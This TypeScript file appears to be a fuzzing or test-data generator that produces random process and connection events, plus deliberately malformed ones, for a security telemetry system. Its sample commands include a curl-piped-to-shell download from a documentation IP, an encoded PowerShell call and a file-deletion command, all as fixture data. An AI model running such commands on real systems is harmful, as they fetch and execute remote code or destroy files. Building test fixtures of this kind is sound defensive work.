import type { Random } from '../random.ts';
import { drawInteger, drawIpv4, drawOne } from './draw.ts';

export type FleetEvent = Record<string, unknown>;

const commands = [
  'calculator.exe',
  'whoami',
  'powershell -NoProfile -EncodedCommand SQBFAFgA',
  '"C:\\Program Files\\Süß & Söhne\\update.exe" /quiet',
  'sh -c "curl -s http://203.0.113.7/x | sh"',
  'rundll32.exe shell32.dll,Control_RunDLL',
  'python3 -c \'print("日本語")\'',
  'cmd.exe /c del *.tmp\n',
];
const users = ['admin', 'root', 'SYSTEM', 'john', 'jürgen', 'web server'];
const ports = [22, 53, 80, 443, 445, 3389, 8080];

export const drawProcess = (random: Random): FleetEvent => ({
  cmdl: `${drawOne(random, commands)} ${drawInteger(random, [0, 9_999])}`,
  user: drawOne(random, users),
});

export const drawConnection = (random: Random): FleetEvent => ({
  source_ip: `192.168.${drawInteger(random, [0, 3])}.${drawInteger(random, [1, 254])}`,
  destination_ip: drawIpv4(random),
  destination_port: random() < 0.5 ? drawOne(random, ports) : drawInteger(random, [0, 65_535]),
});

/** What sensors make of a process when something is wrong with them. */
export const brokenProcesses: readonly ((event: FleetEvent) => unknown)[] = [
  (event) => ({ ...event, cmdl: null }),
  (event) => ({ ...event, cmdl: '' }),
  (event) => ({ ...event, cmdl: ['whoami'] }),
  ({ cmdl }) => ({ cmdl }),
  (event) => ({ ...event, user: 0 }),
  () => null,
  ({ cmdl }) => cmdl,
];

export const brokenConnections: readonly ((event: FleetEvent) => unknown)[] = [
  (event) => ({ ...event, source_ip: 'not-an-ip' }),
  (event) => ({ ...event, source_ip: 'fe80::1' }),
  ({ source_ip, ...event }) => event,
  (event) => ({ ...event, destination_ip: 'not-an-ip' }),
  (event) => ({ ...event, destination_ip: '010.0.0.1' }),
  (event) => ({ ...event, destination_ip: '10.0.0.256' }),
  (event) => ({ ...event, destination_port: String(event.destination_port) }),
  (event) => ({ ...event, destination_port: 65_536 }),
  (event) => ({ ...event, destination_port: -1 }),
  () => [],
];
